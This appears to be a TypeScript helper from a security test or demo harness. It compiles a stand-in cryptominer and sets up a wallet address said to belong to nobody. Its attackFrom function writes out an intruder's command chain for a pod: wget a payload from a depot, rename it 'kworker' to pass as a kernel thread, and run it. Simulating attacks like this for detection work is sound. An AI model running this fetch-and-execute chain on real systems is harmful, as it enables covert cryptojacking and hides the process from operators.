import { execFileSync } from 'node:child_process';
import { mkdirSync, statSync } from 'node:fs';
import { join } from 'node:path';

const SOURCE = join(import.meta.dirname, 'miner.c');
const PROGRAM = join(import.meta.dirname, '..', '..', 'dist', 'demo', 'miner');

/** An address that has a right checksum and belongs to nobody: its keys are the hash of a sentence. */
const WALLET =
  '4AwmvvA7m4STojViuhYor61PW2TBhfeDYYUGhyzfsTg6MsAMa8dk24j7BvVfNc6dh13kQnX25HzSrhAUxWcCA6vM5x5Ut2D';

/** Compiles the harmless stand-in for a miner, unless that was done. Answers its path. */
export function compileStandIn(): string {
  mkdirSync(join(PROGRAM, '..'), { recursive: true });
  const built = statSync(PROGRAM, { throwIfNoEntry: false });
  if (!built || built.mtimeMs < statSync(SOURCE).mtimeMs) {
    execFileSync('gcc', ['-static', '-O2', '-o', PROGRAM, SOURCE]);
  }
  return PROGRAM;
}

/** What the stand-in reads: where its pool is, and for whom it mines. */
export const settingsFor = (address: string, port: number): string => `${address} ${port} ${WALLET}\n`;

/** What someone who got into a pod types there: fetch, name it like a kernel thread, start it. */
export function attackFrom(depot: string, folder: string): string {
  return [
    `cd ${folder}`,
    `busybox wget -q -O kworker ${depot}/update`,
    `busybox wget -q -O settings ${depot}/settings`,
    'chmod +x kworker',
    './kworker -c settings',
  ].join(' && ');
}
